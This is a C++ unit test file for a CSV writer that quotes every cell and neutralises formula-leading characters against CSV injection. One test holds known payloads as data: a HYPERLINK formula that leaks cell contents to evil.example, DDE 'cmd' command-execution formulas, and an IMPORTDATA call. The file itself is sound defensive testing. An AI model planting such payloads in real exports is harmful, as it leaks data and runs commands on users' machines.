// rolloy::csv: every cell quoted, inner quotes doubled, and a cell that a spreadsheet would run
// as a formula (leading = + - @ tab CR NUL) prefixed with a single quote (OWASP, CSV injection).
#include "core/common/csv_cell.hpp"

#include <gtest/gtest.h>

#include <string>

namespace rolloy::csv {
namespace {

std::string cell(std::string_view value) {
    std::string out;
    append_cell(out, value);
    return out;
}

TEST(CsvCell, QuotesPlainText) {
    EXPECT_EQ(cell("Park walk"), "\"Park walk\"");
    EXPECT_EQ(cell("20261127_OUT_PARK_WALK_JOY_UGC_V01"), "\"20261127_OUT_PARK_WALK_JOY_UGC_V01\"");
    EXPECT_EQ(cell(""), "\"\"");
}

TEST(CsvCell, DoublesQuotesAndKeepsSeparatorsAndLineBreaksInsideTheField) {
    EXPECT_EQ(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
    EXPECT_EQ(cell("a,b"), "\"a,b\"");
    EXPECT_EQ(cell("line 1\r\nline 2\n"), "\"line 1\r\nline 2\n\"");
    EXPECT_EQ(cell("\""), "\"\"\"\"");
}

// Each character OWASP lists (and NUL, from ASVS 1.2.10) neutralised when it leads the value.
TEST(CsvCell, NeutralisesEachFormulaLeadingCharacter) {
    EXPECT_EQ(cell("=1+1"), "\"'=1+1\"");
    EXPECT_EQ(cell("+1+1"), "\"'+1+1\"");
    EXPECT_EQ(cell("-1+1"), "\"'-1+1\"");
    EXPECT_EQ(cell("@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
    EXPECT_EQ(cell("\t=1+1"), "\"'\t=1+1\"");
    EXPECT_EQ(cell("\r=1+1"), "\"'\r=1+1\"");
    EXPECT_EQ(cell(std::string_view("\0=1", 3)), std::string("\"'\0=1\"", 6));
    for (char c : std::string("=+-@\t\r"))
        EXPECT_TRUE(starts_formula(std::string(1, c))) << int(c);
    EXPECT_TRUE(starts_formula(std::string_view("\0", 1)));
}

TEST(CsvCell, NeutralisesTheKnownPayloadsWithoutChangingThem) {
    EXPECT_EQ(cell("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"),
              "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\"");
    EXPECT_EQ(cell("-1+cmd|'/c calc'!A0"), "\"'-1+cmd|'/c calc'!A0\"");
    EXPECT_EQ(cell("=cmd|' /C notepad'!'A1'"), "\"'=cmd|' /C notepad'!'A1'\"");
    EXPECT_EQ(cell("@IMPORTDATA(\"https://evil.example\")"),
              "\"'@IMPORTDATA(\"\"https://evil.example\"\")\"");
}

// The characters are harmless anywhere but first: the value is only quoted.
TEST(CsvCell, LeavesValuesThatMerelyContainThemAlone) {
    EXPECT_EQ(cell("a=b"), "\"a=b\"");
    EXPECT_EQ(cell("walk + rest"), "\"walk + rest\"");
    EXPECT_EQ(cell("2026-11-27"), "\"2026-11-27\"");
    EXPECT_EQ(cell("mia@example.com"), "\"mia@example.com\"");
    EXPECT_EQ(cell("col\tumn"), "\"col\tumn\"");
    EXPECT_EQ(cell("end\r"), "\"end\r\"");
    EXPECT_EQ(cell(" =1+1"), "\" =1+1\"");
    EXPECT_EQ(cell("'=1+1"), "\"'=1+1\""); // already text to a spreadsheet: no second quote
    for (std::string_view v : {"a=b", "x+", "x-", "x@", " =", "'=", "", "A"})
        EXPECT_FALSE(starts_formula(v)) << v;
}

TEST(CsvCell, WritesRowsWithCommasAndCrlf) {
    std::string out;
    append_row(out, {"file", "title"});
    append_row(out, {"a.jpg", "=HYPERLINK(\"x\")"});
    append_row(out, {});
    EXPECT_EQ(out, "\"file\",\"title\"\r\n\"a.jpg\",\"'=HYPERLINK(\"\"x\"\")\"\r\n\r\n");
}

} // namespace
} // namespace rolloy::csv
